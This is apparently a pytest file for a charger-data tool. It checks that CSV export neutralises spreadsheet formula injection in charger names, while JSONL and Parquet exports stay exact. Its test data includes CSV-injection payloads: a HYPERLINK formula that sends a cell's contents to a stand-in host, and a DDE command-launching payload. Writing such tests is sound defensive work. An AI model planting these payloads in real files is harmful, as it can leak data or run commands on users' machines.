"""CSV export neutralises cells a spreadsheet would run as formulas; JSONL and Parquet stay
exact.  A charger can be named anything in the vendor app, so names are hostile input."""

from __future__ import annotations

import asyncio
import csv
import json
from datetime import datetime
from pathlib import Path

import pytest

from charged.analysis.export import neutralise_formula
from charged.cli import main
from charged.storage.engine import create_engine
from charged.storage.migrate import upgrade
from charged.storage.writes import write_rows

STAMP = datetime(2026, 1, 5, 7, 0, 0)
# Each of these runs as a formula (or injects one) when a spreadsheet opens the CSV as is.
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["Bay 1", "O'Brien's garage", "", "a=b", "3-4", " =not first"]


async def _fill(path: Path) -> None:
    url = f"sqlite+aiosqlite:///{path}"
    await upgrade(url)
    engine = create_engine(url)
    try:
        async with engine.begin() as conn:
            names = [{"id": f"CP{n}", "name": t} for n, t in enumerate(HOSTILE + HARMLESS)]
            await write_rows(conn, "charge_point_status", names)
            # a real negative number in a numeric column, and "-3.5" as text in a text column
            row = {"phase": "L1", "current": -3.5, "voltage": 230.0, "connector_id": 1,
                   "charge_point_id": "CP0", "comment": "-3.5", "session_id": -7,
                   "date_created": STAMP}  # fmt: skip
            await write_rows(conn, "measurement", [row])
    finally:
        await engine.dispose()


@pytest.fixture
def db(tmp_path: Path) -> str:
    path = tmp_path / "hostile.db"
    asyncio.run(_fill(path))
    return str(path)


def _csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="") as f:
        return list(csv.DictReader(f))


def test_csv_neutralises_formula_cells_and_keeps_numbers(
    db: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "cp.csv"
    assert main(["export", "charge_point_status", "--db", db, "-o", str(target)]) == 0
    names = {r["id"]: r["name"] for r in _csv(target)}
    for n, text in enumerate(HOSTILE):
        if "\r" in text:
            # Python 3.11's csv does not quote a bare CR (readers then split the row there):
            # look at the bytes written instead
            assert f",'{text}," in target.read_bytes().decode()
            continue
        assert names[f"CP{n}"] == "'" + text
    for n, text in enumerate(HARMLESS, start=len(HOSTILE)):
        assert names[f"CP{n}"] == text  # untouched: nothing a spreadsheet would run
    target = tmp_path / "m.csv"
    assert main(["export", "measurement", "--db", db, "-o", str(target)]) == 0
    (m,) = _csv(target)
    # numeric columns stay numbers; the text column's "-3.5" is text and neutralised
    assert (m["current"], m["session_id"], m["comment"]) == ("-3.5", "-7", "'-3.5")
    assert m["date_created"] == "2026-01-05T07:00:00+00:00"  # its offset, not neutralised
    capsys.readouterr()


def test_keep_formulas_writes_cells_as_stored(
    db: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "cp.csv"
    argv = ["export", "charge_point_status", "--db", db, "-o", str(target), "--keep-formulas"]
    assert main(argv) == 0
    written = target.read_bytes().decode()
    for name in HOSTILE:
        quoted = '"' + name.replace('"', '""') + '"' if "," in name or '"' in name else name
        assert f",{quoted}," in written
    capsys.readouterr()


def test_jsonl_and_parquet_stay_exact(
    db: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import pyarrow.parquet as pq

    everything = HOSTILE + HARMLESS
    assert main(["export", "charge_point_status", "--db", db, "--format", "jsonl"]) == 0
    out = capsys.readouterr().out
    names = {line["id"]: line["name"] for line in map(json.loads, out.splitlines())}
    assert [names[f"CP{n}"] for n in range(len(everything))] == everything
    target = tmp_path / "cp.parquet"
    assert main(["export", "charge_point_status", "--db", db, "-o", str(target)]) == 0
    names = {r["id"]: r["name"] for r in pq.read_table(target).to_pylist()}
    assert [names[f"CP{n}"] for n in range(len(everything))] == everything


def test_only_text_is_neutralised() -> None:
    assert neutralise_formula(-3.5) == -3.5
    assert neutralise_formula(-7) == -7
    assert neutralise_formula(None) is None
    assert neutralise_formula("-") == "'-"
    assert neutralise_formula("ok") == "ok"
